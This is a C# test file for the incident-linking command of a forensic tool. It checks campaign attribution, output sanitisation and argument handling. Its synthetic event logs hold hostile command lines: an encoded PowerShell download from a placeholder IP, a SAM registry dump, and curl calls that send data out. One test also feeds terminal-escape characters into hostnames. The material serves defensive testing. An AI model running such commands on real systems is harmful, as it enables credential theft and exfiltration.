@@ -1,0 +1,151 @@
+using System.Text.Json;
+using Culprit.SampleMaker.Scenario;
+using Culprit.TestSupport;
+
+namespace Culprit.Cli.Tests.Commands;
+
+/// <summary><c>culprit link</c> as a user meets it: the sample's intruder at two institutions, and recordings of others.</summary>
+public sealed class LinkTests : IDisposable
+{
+    private static readonly string Sample = Path.Combine(RepositoryRoot.Path, "samples", "research-lab");
+
+    private readonly TestProgram _program = new();
+
+    public void Dispose() => _program.Dispose();
+
+    [Fact]
+    public void One_intruder_at_two_institutions_is_one_campaign_and_another_intruder_is_not()
+    {
+        string lab = Investigate(Sample, "lab");
+        string clinic = Investigate(Play("clinic", static scenario => scenario), "clinic");
+        string other = Investigate(MadeUp("WIN-7.other.example", "198.51.100.250"), "other");
+        string before = Hash(lab);
+
+        Outcome outcome = _program.Run("link", other, lab, clinic, "--min", "low", "--format", "json");
+
+        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Error));
+        Assert.Equal(before, Hash(lab));
+        using var json = JsonDocument.Parse(outcome.Out);
+        JsonElement campaign = Assert.Single(json.RootElement.GetProperty("campaigns").EnumerateArray());
+        JsonElement incidents = json.RootElement.GetProperty("incidents");
+        Assert.Equal(["clinic", "lab"], campaign.GetProperty("members").EnumerateArray().Select(m => incidents[m.GetInt32()].GetProperty("case").GetString()));
+        JsonElement pair = json.RootElement.GetProperty("pairs")[0];
+        Assert.Equal("highly_likely", pair.GetProperty("likelihood").GetString());
+        Assert.Contains(pair.GetProperty("items").EnumerateArray(), static i => i.GetProperty("value").GetString() == "203.0.113.77" && i.GetProperty("first_events").GetArrayLength() > 0);
+        Assert.All(json.RootElement.GetProperty("pairs").EnumerateArray().Skip(1), static p => Assert.True(p.GetProperty("probability").GetDouble() < 0.25));
+
+        string page = _program.Run("link", clinic, lab, other, "--min", "low").Out;
+        Assert.StartsWith("2 incidents likely belong to 1 campaign.\n", page, StringComparison.Ordinal);
+        Assert.Contains("NOT LINKED\n  other #1: nearest ", page, StringComparison.Ordinal);
+        Assert.Equal(page, _program.Run("link", other, lab, clinic, "--min", "low").Out);
+    }
+
+    [Fact]
+    public void The_same_tradecraft_from_elsewhere_is_no_more_than_likely()
+    {
+        string lab = Investigate(Sample, "lab");
+        string copycat = Investigate(Play("copycat", static scenario => scenario
+            .Replace("203.0.113.77", "192.0.2.55", StringComparison.Ordinal).Replace("203.0.113.91", "192.0.2.91", StringComparison.Ordinal)), "copycat");
+
+        using var json = JsonDocument.Parse(_program.Run("link", lab, copycat, "--format", "json").Out);
+
+        JsonElement pair = Assert.Single(json.RootElement.GetProperty("pairs").EnumerateArray());
+        Assert.Contains(pair.GetProperty("likelihood").GetString(), new[] { "realistic_possibility", "likely" });
+        Assert.Equal("low", pair.GetProperty("confidence").GetString());
+    }
+
+    [Theory]
+    [Trait("needs", "corpus")]
+    [InlineData("windows-json/credential_access/host/empire_mimikatz_logonpasswords.zip")]
+    [InlineData("windows-json/lateral_movement/host/covenant_sc_query_dcerpc_smb_svcctl.zip")]
+    [InlineData("evtx/evtx-attack-samples/Command and Control")]
+    [InlineData("evtx/evtx-attack-samples/Credential Access")]
+    public void Recordings_of_others_are_not_linked_to_the_sample(string recording)
+    {
+        Assert.SkipUnless(RepositoryRoot.HasShared, "the shared corpus is not here");
+        string lab = Investigate(Sample, "lab");
+        string recorded = Investigate(Path.Combine(RepositoryRoot.Shared, "corpus", recording), "recorded", "--rules", Path.Combine(RepositoryRoot.Shared, "rules", "sigma"));
+
+        Outcome outcome = _program.Run("link", lab, recorded, "--min", "low", "--format", "json");
+
+        using var json = JsonDocument.Parse(outcome.Out);
+        JsonElement incidents = json.RootElement.GetProperty("incidents");
+        JsonElement[] across =
+        [
+            .. json.RootElement.GetProperty("pairs").EnumerateArray()
+                .Where(p => incidents[p.GetProperty("first").GetInt32()].GetProperty("case").GetString() != incidents[p.GetProperty("second").GetInt32()].GetProperty("case").GetString()),
+        ];
+        Assert.NotEmpty(across);
+        Assert.All(across, static p => Assert.True(p.GetProperty("probability").GetDouble() < 0.40, p.GetProperty("likelihood_sentence").GetString()));
+    }
+
+    [Fact]
+    public void Evidence_cannot_reach_the_terminal()
+    {
+        string a = Investigate(MadeUp("PC-1.one\u001b[31m\u202e.example", "203.0.113.7"), "a\u001b[2J"), b = Investigate(MadeUp("PC-1.one\u001b[31m\u202e.example", "203.0.113.7"), "b");
+
+        Outcome outcome = _program.Run("link", a, b, "--min", "low", "--base-rate", "0.99");
+
+        Assert.Equal(ExitCodes.Done, outcome.Code);
+        Assert.Contains("the same institution", outcome.Out, StringComparison.Ordinal);
+        Assert.DoesNotContain('\u001b', outcome.Out);
+        Assert.DoesNotContain('\u202e', outcome.Out);
+        Assert.Contains(@"\x1b[31m", outcome.Out, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Wrong_arguments_are_refused_and_say_what_to_do()
+    {
+        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one");
+
+        Assert.Equal(ExitCodes.Usage, _program.Run("link").Code);
+        Assert.Equal(ExitCodes.Usage, _program.Run("link", Path.Combine(_program.Folder, "nowhere")).Code);
+        Outcome twice = _program.Run("link", one, one);
+        Assert.Equal(ExitCodes.Usage, twice.Code);
+        Assert.Contains("give each case once", twice.Error, StringComparison.Ordinal);
+        Outcome rate = _program.Run("link", one, "--base-rate", "1.5");
+        Assert.Equal(ExitCodes.Usage, rate.Code);
+        Assert.Contains("--base-rate", rate.Error, StringComparison.Ordinal);
+        Assert.Equal(ExitCodes.Usage, _program.Run("link", one, "--knowledge", Path.Combine(_program.Folder, "none")).Code);
+        Outcome alone = _program.Run("link", one, "--min", "low");
+        Assert.Equal(ExitCodes.Done, alone.Code);
+        Assert.StartsWith("Nothing to compare", alone.Out, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void The_result_goes_to_a_file()
+    {
+        string one = Investigate(MadeUp("PC-1", "203.0.113.7"), "one"), two = Investigate(MadeUp("PC-2", "203.0.113.8"), "two");
+        string file = Path.Combine(_program.Folder, "links.json");
+
+        Outcome outcome = _program.Run("link", one, two, "--min", "low", "--format", "json", "--out", file);
+
+        Assert.Equal((ExitCodes.Done, ""), (outcome.Code, outcome.Out));
+        Assert.Equal(_program.Run("link", two, one, "--min", "low", "--format", "json").Out, File.ReadAllText(file));
+    }
+
+    private string Investigate(string evidence, string name, params string[] more)
+    {
+        string folder = Path.Combine(_program.Folder, "cases", name);
+        Assert.Equal(ExitCodes.Done, _program.Run(["investigate", evidence, "--case", folder, .. more]).Code);
+        return folder;
+    }
+
+    // The same intruder at another institution, half a year later: other people, machines and days around the same steps.
+    private string Play(string name, Func<string, string> change)
+    {
+        string scenario = File.ReadAllText(Path.Combine(Sample, "scenario.yml"))
+            .Replace("lab.example", name + ".example", StringComparison.Ordinal).Replace("netbios: LAB", "netbios: " + name.ToUpperInvariant(), StringComparison.Ordinal)
+            .Replace("seed: research-lab-1", "seed: " + name, StringComparison.Ordinal).Replace("2020-02-", "2020-08-", StringComparison.Ordinal);
+        string folder = Path.Combine(_program.Folder, "evidence-" + name);
+        EvidenceFolder.Make(_program.Write(name + ".yml", change(scenario)), folder);
+        return folder;
+    }
+
+    // One process of another kind of intruder.
+    private string MadeUp(string computer, string address) => Path.GetDirectoryName(_program.Write(
+        $"evidence-{Guid.NewGuid():N}/one.evtx", TestEvidence.Log(computer, $"powershell -enc SQBFAFgA http://{address}/qzx.ps1", $"whoami /all & curl http://{address}/q", $"reg save HKLM\\SAM c:\\users\\public\\s.dat & curl http://{address}/s")))!;
+
+    private static string Hash(string folder) => string.Join('\n', Directory.EnumerateFiles(folder, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal)
+        .Select(static f => f + Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(f)))));
+}
